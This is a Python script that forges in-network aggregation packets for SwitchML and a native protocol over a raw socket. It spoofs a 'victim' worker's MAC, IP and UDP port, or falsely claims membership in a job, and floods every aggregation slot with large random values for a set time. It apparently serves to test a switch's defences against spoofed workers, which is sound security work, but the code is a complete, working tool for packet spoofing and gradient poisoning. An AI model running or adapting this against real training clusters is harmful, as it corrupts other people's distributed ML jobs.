#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
"""Sends forged aggregation frames out of a host that is no worker, through
a raw AF_PACKET socket, for a given time. Three kinds, round robin:
  own-mac: the host's own MAC with a worker's IP and UDP port,
  full:    the worker's MAC, IP and port (only the switch port gives it away),
  claim:   the host's own addresses, in a native header naming the job.
Each carries large values for every slot and set of the job, SwitchML and
native. Prints how many of each it sent, as JSON."""
import argparse
import json
import random
import socket
import struct
import time


def mac(s):
    return bytes(int(x, 16) for x in s.split(":"))


def ip_hdr(src, dst, l4len):
    h = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + l4len, 0, 0, 64, 17, 0,
                    socket.inet_aton(src), socket.inet_aton(dst))
    s = sum(struct.unpack(">10H", h))
    s = (s & 0xffff) + (s >> 16)
    s = (s & 0xffff) + (s >> 16)
    return h[:10] + struct.pack(">H", ~s & 0xffff) + h[12:]


def frame(src_mac, dst_mac, src_ip, dst_ip, sport, dport, payload):
    udp = struct.pack(">HHHH", sport, dport, 8 + len(payload), 0) + payload
    return dst_mac + src_mac + b"\x08\x00" + ip_hdr(src_ip, dst_ip, len(udp)) + udp


def switchml(slot, shadow, n=64):
    vals = [random.randrange(1 << 31) for _ in range(n)]
    return struct.pack("<BBI", 0x01, 1, 0) + struct.pack(">Hbb", slot | shadow << 15, 5, 5) + \
        struct.pack(">%dI" % n, *vals)


def native(job, rank, nworkers, slot, shadow, rnd, chunk, n=32):
    vals = [random.randrange(1 << 31) for _ in range(n)]
    return struct.pack(">BBBBIIIHHHHbBHI", 0x1C, 0x10, 0, 0, job, rnd, chunk, rank, nworkers,
                       slot | shadow << 15, n, 5, 0, 0, 0) + struct.pack(">%dI" % n, *vals)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--iface", default="eth0")
    ap.add_argument("--own-mac", required=True)
    ap.add_argument("--switch-mac", required=True)
    ap.add_argument("--switch-ip", required=True)
    ap.add_argument("--own-ip", required=True)
    ap.add_argument("--victim-mac", required=True)
    ap.add_argument("--victim-ip", required=True)
    ap.add_argument("--victim-port", type=int, required=True)
    ap.add_argument("--job", type=int, required=True)
    ap.add_argument("--nworkers", type=int, default=4)
    ap.add_argument("--slots", type=int, default=128)
    ap.add_argument("--seconds", type=float, default=3.0)
    a = ap.parse_args()

    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((a.iface, 0))
    own, sw, victim = mac(a.own_mac), mac(a.switch_mac), mac(a.victim_mac)
    sent = {"own-mac": 0, "full": 0, "claim": 0}
    end = time.time() + a.seconds
    i = 0
    while time.time() < end:
        slot, shadow = i % a.slots, (i // a.slots) & 1
        kind = ("own-mac", "full", "claim")[i % 3]
        if kind == "own-mac":
            f = frame(own, sw, a.victim_ip, a.switch_ip, a.victim_port, 0xBEE0, switchml(slot, shadow))
        elif kind == "full":
            body = native(a.job, 0, a.nworkers, slot, shadow, 1, slot) if i % 2 else switchml(slot, shadow)
            f = frame(victim, sw, a.victim_ip, a.switch_ip, a.victim_port, 0xBEF0 if i % 2 else 0xBEE0, body)
        else:
            f = frame(own, sw, a.own_ip, a.switch_ip, a.victim_port, 0xBEF0,
                      native(a.job, 1, a.nworkers, slot, shadow, 1, slot))
        s.send(f)
        sent[kind] += 1
        i += 1
    print(json.dumps(sent))


if __name__ == "__main__":
    main()
